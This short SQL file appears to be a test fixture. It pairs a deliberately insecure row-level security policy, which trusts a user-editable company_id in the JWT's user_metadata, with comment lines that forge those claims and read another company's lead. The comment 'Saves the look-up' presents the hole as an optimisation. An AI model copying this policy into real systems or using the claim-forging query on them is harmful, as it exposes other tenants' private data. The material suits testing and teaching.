-- The policy trusts the part of the token that users edit themselves, so anyone names any company.
-- about: leads, company from token
-- as: hf_rooftop_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-00000000000a", "user_metadata": {"company_id": "bbbbbbbb-0000-4000-8000-000000000002"}}';
-- exploit: SELECT full_name FROM leads;
-- shows: Road-secret Lead
-- Saves the look-up of the membership on the largest table.
CREATE POLICY "company from token" ON leads USING (
  company_id::text = current_setting('request.jwt.claims', TRUE)::jsonb -> 'user_metadata' ->> 'company_id');
